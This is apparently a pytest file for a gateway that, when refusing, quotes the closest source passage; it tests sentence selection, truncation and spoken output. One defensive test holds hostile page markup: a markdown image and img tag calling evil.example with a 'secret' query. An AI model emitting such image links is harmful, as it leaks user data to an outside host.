"""The passage closest to an answer, which a refusal has in every interface of the gateway."""

from collections.abc import AsyncIterator
from dataclasses import replace

import pytest

from contracts.answer import Citation, CitationKind, Reason, Route, Verification
from gateway.clients.services import Passage
from gateway.serving.question import SPOKEN_CHARS, in_words
from gateway.state import Context, Entity, Evidence, Quote, Reply, Unverified
from gateway.steps.conclusion import CLOSEST_CHARS, Outcome, closest_of, conclude, refusal, with_caution
from gateway.steps.evidence import attribute_evidence, page_evidence
from gateway.thresholds import load_thresholds
from tests.speech_servers import SpeechServers
from tests.unit.gateway.device_bytes import phone
from tests.unit.gateway.fakes import BOOK, PAGES, FakeServices
from tests.unit.gateway.platform import PHOTO, World, gateway_before
from tests.unit.gateway.reasoners import unsure
from tests.unit.gateway.test_chat_clients import complete
from tests.wire import send_raw

IN_WORDS = f'The closest I found: "{PAGES}" ({BOOK}).'
CATHEDRAL = (
    "St Paul's Cathedral stands on Ludgate Hill. "
    + "Services are held there every day of the week. " * 6
    + "Its dome is 111 m tall. The cross on top was replaced in 1821. "
    + "Visitors buy tickets at the west door. " * 6
).strip()


def page(text: str, title: str = "St Paul's Cathedral", score: float = 0.9) -> Evidence:
    return Evidence(text, title, "https://pages.example/st-pauls", CitationKind.PAGE, score)


def closest_in(question: str, *evidence: Evidence) -> Citation:
    """The closest passage, of which there must be one."""
    closest = closest_of(question, evidence)
    assert closest is not None
    return closest


@pytest.fixture
async def world(services: FakeServices) -> AsyncIterator[World]:
    async with gateway_before(services, unsure()) as made:
        yield made


def test_irrelevant_passage_is_not_the_closest() -> None:
    passage, other = page("The dome is 111 m tall.", score=0.01), Entity("Monte Rosa", 1.0)
    assert closest_of("Who conducts the choir?", [passage]) is None
    assert closest_of("Who conducts the choir?", [passage], entity=other) is None
    assert closest_of("Who painted the dome?", [passage]) is not None
    assert closest_of("How much was it?", [passage], entity=Entity("St Paul's Cathedral", 1.0)) is not None


def test_heading_is_no_part_of_the_closest_sentence() -> None:
    closest = closest_in(
        "Where should it stand?", page("Light and place\nIt should stand in a bright window.")
    )
    assert closest.sentence == "It should stand in a bright window."


def test_sentence_that_is_cut_ends_in_an_ellipsis() -> None:
    long = page(f"The dome is {'very ' * 100}tall.")
    text = in_words(replace(refusal(Reason.MODEL_UNSURE, Route.RAG), closest=closest_in("How tall?", long)))
    assert 'very…" (St Paul' in text


def test_closest_is_the_best_passage_with_complete_sentences() -> None:
    closest = closest_in("How tall is the dome?", page(CATHEDRAL), page("The dome is tall.", score=0.2))
    assert closest.snippet == CATHEDRAL
    assert "Its dome is 111 m tall." in closest.sentence
    assert closest.sentence in CATHEDRAL
    assert closest.sentence.endswith(".")
    assert len(closest.sentence) <= CLOSEST_CHARS
    assert (closest.title, closest.kind) == ("St Paul's Cathedral", CitationKind.PAGE)
    chunks = tuple(page_evidence(Passage(CATHEDRAL, "St Paul's Cathedral", "", None)))
    assert all(len(chunk.text) < len(CATHEDRAL) for chunk in chunks)
    assert closest_in("How tall is the dome?", *chunks).snippet == CATHEDRAL


def test_long_sentence_is_cut_after_a_word() -> None:
    closest = closest_in("How tall?", page("tall houses and towers " * 50))
    assert set(closest.sentence.split()) == {"tall", "houses", "and", "towers"}


def test_passage_of_a_long_page_is_cut_around_the_closest_sentence() -> None:
    long = "Nothing is said here about it. " * 500
    closest = closest_in("How tall is the dome?", page(f"{long}Its dome is 111 m tall. {long}"))
    assert closest.sentence in closest.snippet
    assert len(closest.snippet) <= 1_500


def test_sentence_that_the_refused_reply_quotes_is_the_closest() -> None:
    evidence = (page(PAGES), page(CATHEDRAL))
    reply = Reply("1821", 0.0, (Quote(0, "no such words"), Quote(1, "replaced in 1821")))
    outcome = conclude(
        "When?", reply, None, Context(Route.RAG, evidence=evidence), None, {}, load_thresholds()
    )
    assert outcome.abstained
    assert outcome.closest is not None
    assert "The cross on top was replaced in 1821." in outcome.closest.sentence


def test_attributes_are_shown_as_key_and_value() -> None:
    facts = (("motto", "The sea is ours"), ("begun", "1340"))
    evidence = tuple(attribute_evidence(Entity("Doge's Palace", 0.9, facts)))
    assert evidence[0].text.endswith("The begun of Doge's Palace is 1340.")
    quote = (Quote(0, "The begun of Doge's Palace is 1340."),)
    closest = closest_of("When was it begun?", evidence, quote)
    assert closest is not None
    assert closest.sentence == "Doge's Palace, begun: 1340."
    assert closest.snippet == f"Doge's Palace, motto: The sea is ours. {closest.sentence}"


@pytest.mark.parametrize(
    ("question", "shares_two"),
    [("How tall is the dome of this cathedral?", True), ("How tall is this?", False)],
)
def test_without_its_photo_the_closest_passage_shares_two_words(question: str, shares_two: bool) -> None:
    reply = Reply(None, 0.0, reason=Reason.NEEDS_PHOTO)
    context = Context(Route.RAG, evidence=(page(CATHEDRAL),))
    closest = conclude(question, reply, None, context, None, {}, load_thresholds()).closest
    assert (closest is not None) is shares_two


@pytest.mark.parametrize("reason", [Reason.LANGUAGE, Reason.NOT_HEARD, Reason.NOTHING_INDEXED])
def test_refusal_of_the_question_itself_has_no_closest_passage(reason: Reason) -> None:
    closest = closest_in("How tall?", page(CATHEDRAL))
    assert refusal(reason, Route.RAG, closest=closest).closest is None
    assert refusal(Reason.OVERLOADED, Route.RAG, closest=closest).closest is closest


def test_source_of_a_withheld_answer_is_the_closest_passage() -> None:
    source = Citation(title=BOOK, url="", snippet=PAGES, score=0.9, kind=CitationKind.PAGE)
    answer = Outcome(
        "312.", Reason.ANSWERED, 0.9, Route.RAG, citations=(source,), verification=Verification.UNVERIFIED
    )
    outcome = with_caution(answer, Unverified.REFUSE)
    closest = source.model_copy(update={"sentence": PAGES})
    assert (outcome.abstained, outcome.closest, outcome.citations) == (True, closest, ())


def test_markup_and_addresses_of_a_page_are_removed() -> None:
    hostile = (
        'Tall ![x](https://evil.example/?q=secret) <img src="//evil.example"> "tower" at https://a.example/b.'
    )
    closest = closest_in("How tall?", page(hostile, title="A [link](https://evil.example)"))
    text = in_words(replace(refusal(Reason.MODEL_UNSURE, Route.RAG), closest=closest))
    assert text == "The closest I found: \"Tall x 'tower' at a.example\" (A link)."


def test_spoken_passage_is_short_and_has_the_words_of_the_question() -> None:
    closest = closest_in("How tall is the dome?", page(CATHEDRAL))
    text = in_words(
        replace(refusal(Reason.MODEL_UNSURE, Route.RAG), closest=closest),
        "How tall is the dome?",
        SPOKEN_CHARS,
    )
    assert "Its dome is 111 m tall." in text
    assert len(text) < SPOKEN_CHARS + 60


async def test_chat_quotes_the_closest_passage_and_remembers_the_refusal(world: World) -> None:
    messages = [{"role": "user", "content": "Who printed The Salt Road?"}]
    text = await complete(world, {"model": "loreglass", "messages": messages})
    assert text.startswith("I don't know for sure. ")
    assert IN_WORDS in text
    messages += [{"role": "assistant", "content": text}, {"role": "user", "content": "And who sold it?"}]
    await complete(world, {"model": "loreglass", "messages": messages})
    [turn] = world.reasoner.queries[-1].history
    assert turn.abstained


async def test_devices_and_speech_quote_it_before_the_advice(services: FakeServices) -> None:
    servers = SpeechServers()
    async with servers.up() as url, gateway_before(services, unsure(), tts_url=url) as world:
        answer = await world.ask()
        assert answer.speech is not None
        await world.client.get(answer.speech)
        reply = await send_raw(world.url, phone("1", PHOTO, "?question=Who%20wrote%20this%20book%3F"))
    expected = f"{answer.answer} {IN_WORDS} {answer.advice}"
    assert (servers.utterances[0]["input"], reply.json()["response"]) == (expected, expected)
